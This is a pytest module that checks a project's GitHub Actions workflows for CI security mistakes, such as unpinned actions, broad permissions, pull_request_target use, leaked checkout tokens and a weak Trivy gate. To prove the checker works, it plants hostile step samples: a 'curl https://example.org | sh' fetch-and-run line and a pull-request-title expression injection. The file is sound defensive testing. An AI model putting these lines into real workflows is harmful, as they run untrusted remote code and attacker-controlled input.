""".github/workflows: what actionlint and zizmor say, and what may not be in any of them."""
import copy
import re
import subprocess

import pytest
import yaml

import charts

PLACE = charts.ROOT / ".github/workflows"
FILES = sorted(PLACE.glob("*.yml"))
SHA = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}")
# make TARGET NAME="$NAME"..., and the gate.
RUN = re.compile(r'make [a-z-]+( [A-Z]+=("\$[A-Z]+"|[a-z]+))*|\.ci/run')


def load(path):
    workflow = yaml.safe_load(path.read_text())
    workflow["on"] = workflow.pop(True, workflow.get("on"))  # YAML 1.1 takes on for true
    return workflow


def steps(workflow):
    for name, job in workflow["jobs"].items():
        for step in job.get("steps", []):
            yield name, job, step


def mistakes(workflow, text=""):
    """What the house forbids, a sentence each."""
    said = []
    if workflow.get("permissions") != {}:
        said.append("the workflow has permissions of its own; say permissions: {} and give each job what it needs")
    if "concurrency" not in workflow:
        said.append("no concurrency: two runs would work on the same thing")
    if "pull_request_target" in workflow["on"]:
        said.append("pull_request_target gives a fork's code our secrets")
    for name, job in workflow["jobs"].items():
        if "permissions" not in job:
            said.append(f"{name}: no permissions")
        if "timeout-minutes" not in job:
            said.append(f"{name}: no timeout")
        deploys = any(re.match(r"make (deploy|preview)", step.get("run", "")) for step in job.get("steps", []))
        if deploys and "environment" not in job:
            said.append(f"{name}: deploys without an environment, whose reviewers and secrets would hold")
        if "secrets." in str(job) and "pull_request" in workflow["on"]:
            said.append(f"{name}: secrets in a workflow that runs a pull request's code")
    for name, job, step in steps(workflow):
        used = step.get("uses")
        if used and not SHA.fullmatch(used):
            said.append(f"{name}: {used} is not pinned to a commit")
        if used and "checkout@" in used and step.get("with", {}).get("persist-credentials") is not False:
            said.append(f"{name}: checkout leaves its token behind")
        run = step.get("run")
        if run and not RUN.fullmatch(run.strip()):
            said.append(f"{name}: {run.strip()!r} is no make target: what it does is tested nowhere")
        if "trivy" in str(step).lower() and not (re.search(r"--exit-code[ =]1\b", run or "") and "CRITICAL" in (run or "")):
            said.append(f"{name}: Trivy would pass with a CRITICAL finding")
    if "workflow_call" in workflow["on"] and "pull_request.head" in text and "head.repo.full_name == github.repository" not in text:
        said.append("a fork's pull request is not told apart")
    return said


def test_there_are_workflows():
    assert {path.name for path in FILES} == {"ci.yml", "deploy.yml", "preview.yml"}


@pytest.mark.parametrize("path", FILES, ids=lambda path: path.name)
def test_a_workflow_has_nothing_that_is_forbidden(path):
    assert not mistakes(load(path), path.read_text())


def test_every_target_that_a_workflow_makes_exists():
    makefile = (charts.ROOT / "Makefile").read_text()
    for path in FILES:
        for _, _, step in steps(load(path)):
            target = re.match(r"make ([a-z-]+)", step.get("run", ""))
            assert not target or re.search(rf"^{target[1]}:", makefile, re.M), f"{path.name}: make {target[1]}"


def test_production_comes_after_stage_and_by_approval():
    jobs = load(PLACE / "deploy.yml")["jobs"]
    assert jobs["prod"]["needs"] == "stage" and jobs["prod"]["environment"] == "prod" and jobs["stage"]["environment"] == "stage"


def test_actionlint_is_quiet():
    done = subprocess.run([charts.tool("actionlint"), "-no-color", *map(str, FILES)], capture_output=True, text=True, check=False, timeout=60, cwd=charts.ROOT)
    assert done.returncode == 0, done.stdout + done.stderr


def test_zizmor_is_quiet():
    done = subprocess.run([charts.tool("zizmor"), "--offline", "--no-progress", "--persona=pedantic", *map(str, FILES)], capture_output=True, text=True, check=False,
                          timeout=60, cwd=charts.ROOT)
    assert done.returncode == 0, done.stdout + done.stderr


def planted(change):
    workflow = copy.deepcopy(load(PLACE / "deploy.yml"))
    change(workflow)
    return " ".join(mistakes(workflow))


def step(workflow, **keys):
    workflow["jobs"]["stage"]["steps"].append(keys)


@pytest.mark.parametrize("change, sentence", [
    (lambda w: step(w, uses="actions/cache@v4"), "actions/cache@v4 is not pinned"),
    (lambda w: step(w, uses="actions/cache@main"), "not pinned"),
    (lambda w: step(w, uses="docker://aquasec/trivy:latest"), "not pinned"),
    (lambda w: w.pop("permissions"), "permissions of its own"),
    (lambda w: w.update(permissions="write-all"), "permissions of its own"),
    (lambda w: w["jobs"]["stage"].pop("permissions"), "stage: no permissions"),
    (lambda w: w.pop("concurrency"), "no concurrency"),
    (lambda w: w["jobs"]["prod"].pop("environment"), "prod: deploys without an environment"),
    (lambda w: w["jobs"]["prod"].pop("timeout-minutes"), "prod: no timeout"),
    (lambda w: w["on"].update(pull_request=None), "secrets in a workflow that runs a pull request's code"),
    (lambda w: w["on"].update(pull_request_target=None), "pull_request_target"),
    (lambda w: w["jobs"]["stage"]["steps"][0].pop("with"), "checkout leaves its token behind"),
    (lambda w: step(w, run="curl https://example.org | sh"), "is no make target"),
    (lambda w: step(w, run="echo ${{ github.event.pull_request.title }}"), "is no make target"),
    (lambda w: step(w, run="trivy image --exit-code 0 --severity CRITICAL x"), "Trivy would pass"),
    (lambda w: step(w, run="trivy image --severity CRITICAL x"), "Trivy would pass"),
])
def test_what_is_forbidden_is_found(change, sentence):
    assert sentence in planted(change)
